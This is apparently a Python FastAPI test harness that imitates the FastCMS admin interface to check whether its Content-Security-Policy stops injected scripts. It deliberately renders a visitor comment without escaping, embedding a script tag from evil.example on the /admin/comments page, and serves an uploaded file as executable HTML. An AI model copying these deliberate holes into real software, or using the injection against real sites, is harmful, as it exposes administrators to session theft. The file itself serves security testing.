"""A CMS with the administrator's pages of FastCMS: a sign-in by a script in the page, which sets a cookie, and behind it
pages that Alpine, Tailwind and icons from CDNs make; with the headers that it sends by itself."""

from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse

app = FastAPI()

LOGIN = """<!DOCTYPE html><title>sign in</title><script src="https://cdn.tailwindcss.com"></script>
<form id="form"><input type="email" id="email"><input type="password" id="password"><button>Sign in</button></form>
<script>
  document.getElementById("form").addEventListener("submit", async (event) => {
    event.preventDefault();
    const who = { email: document.getElementById("email").value, password: document.getElementById("password").value };
    const asked = { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(who) };
    const answer = await (await fetch("/api/v1/auth/login", asked)).json();
    document.cookie = `access_token=${answer.token}; path=/; max-age=3600; SameSite=Lax`;
    window.location.href = "/admin/";
  });
</script>"""

ADMIN = """<!DOCTYPE html><title>admin</title><script src="https://cdn.tailwindcss.com"></script>
<link rel="stylesheet" href="https://cdnjs.cloudflare.com/ajax/libs/font-awesome/6.4.0/css/all.min.css">
<style>[x-cloak] { display: none }</style>
<script defer src="https://cdn.jsdelivr.net/npm/alpinejs@3.x.x/dist/cdn.min.js"></script>
<body x-data="{ open: false, drafts: 2 }"><h1 x-text="drafts + 1"></h1><i class="fas"></i>
<button onclick="document.title = 'clicked'">More</button>COMMENT</body>"""

# What a visitor wrote, and some page shows without escaping.
FOREIGN = """<script src="https://evil.example/evil.js"></script>"""


@app.middleware("http")
async def own_headers(request: Request, call_next):
    answer = await call_next(request)
    answer.headers["Content-Security-Policy"] = (
        "default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval'; style-src 'self' 'unsafe-inline'"
    )
    return answer


@app.get("/favicon.ico", status_code=204)
async def favicon():
    return None


@app.get("/")
async def first():
    return {"message": "Welcome to blog"}


@app.get("/api/v1/files/7/download", response_class=HTMLResponse)
async def download():
    # What somebody uploaded. FastCMS has browsers save it; here one shows it, as after a change of that code.
    return "<title>an upload</title><script>document.title = 'it ran'</script>"


@app.get("/admin/login", response_class=HTMLResponse)
async def login():
    return LOGIN


@app.post("/api/v1/auth/login")
async def sign_in(who: dict[str, str]):
    return {"token": "made-up" if who["password"] == "not a real password" else "wrong"}


@app.get("/admin/", response_class=HTMLResponse)
@app.get("/admin/comments", response_class=HTMLResponse)
async def admin(request: Request):
    if request.cookies.get("access_token") != "made-up":
        return LOGIN
    return ADMIN.replace("COMMENT", FOREIGN if request.url.path == "/admin/comments" else "")
